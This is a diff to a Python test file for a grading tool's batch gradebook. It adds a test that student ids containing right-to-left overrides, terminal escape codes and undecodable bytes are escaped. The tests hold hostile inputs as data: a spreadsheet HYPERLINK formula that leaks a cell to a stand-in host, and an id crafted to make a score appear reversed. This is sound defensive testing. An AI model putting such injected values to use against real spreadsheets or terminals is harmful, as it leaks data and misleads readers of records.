@@ -10,6 +10,7 @@ from grader import kit
 from grader.batch import BatchOptions, grade_batch
 from grader.curriculum import of_module
 from grader.gradebook import format_table, spreadsheet_text
+from grader.terminal import shown
 
 FORMULA_IDS = ['=HYPERLINK("evil.example?leak="&B2,"open")', "+1", "-x", "@SUM(A1:A9)", "\tx", "\r=1", " =1+1"]
 
@@ -34,7 +35,7 @@ def test_the_gradebook_of_a_batch_with_formula_ids_has_no_formula_cell(tmp_path)
     points = sum(exercise.points for exercise in of_module("derivatives"))
     with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as stream:
         rows = list(csv.reader(stream))[1:]
-    assert sorted(row[0] for row in rows) == sorted(spreadsheet_text(student) for student in students)
+    assert sorted(row[0] for row in rows) == sorted(spreadsheet_text(shown(student)) for student in students)
     for row in rows:
         assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", " "))
         assert float(row[1]) == float(row[2]) == points  # numbers stay numbers: no apostrophe on a score
@@ -48,3 +49,17 @@ def test_the_terminal_table_escapes_control_characters_and_undecodable_bytes(tmp
     table = format_table(summary.results)
     assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
     assert "eve\\x1b[2J\\x1b]0;owned\\x07\\u202e\\xff" in table
+
+
+def test_the_gradebook_escapes_bidirectional_overrides_control_characters_and_undecodable_bytes(tmp_path):
+    """Attack: an id holding U+202E (right-to-left override) was written raw, so that a text editor showed the rest
+    of the line reversed (another score seemed to be the student's); a byte that is not UTF-8 was written as a
+    lone surrogate's escape."""
+    hostile = "eve\u202e52,52" + b"\xff".decode("utf-8", "surrogateescape") + "\x1b[2J"
+    for student in (hostile, "José"):
+        (tmp_path / "subs" / student).mkdir(parents=True)
+    grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
+    text = (tmp_path / "out" / "gradebook.csv").read_bytes().decode("utf-8")
+    assert "\u202e" not in text and "\x1b" not in text and "\\udcff" not in text
+    ids = sorted(row[0] for row in list(csv.reader(text.splitlines()))[1:])
+    assert ids == sorted(["eve\\u202e52,52\\xff\\x1b[2J", "José"])
